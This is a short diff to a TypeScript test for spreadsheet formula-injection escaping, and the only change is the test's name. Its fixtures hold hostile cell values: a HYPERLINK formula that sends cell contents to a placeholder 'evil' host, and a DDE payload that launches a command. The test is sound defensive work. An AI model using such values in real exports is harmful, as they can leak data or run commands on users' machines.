@@ -16,7 +16,7 @@ function parsed(line: string): string[] {
   }
 }
 
-test('a text that a spreadsheet would compute gets an apostrophe, in whatever column', () => {
+test('a text that a spreadsheet would evaluate gets an apostrophe, in every column', () => {
   const formulas = [
     '=HYPERLINK("http://evil/?"&A1,"click")',
     '+1+cmd|/C calc',
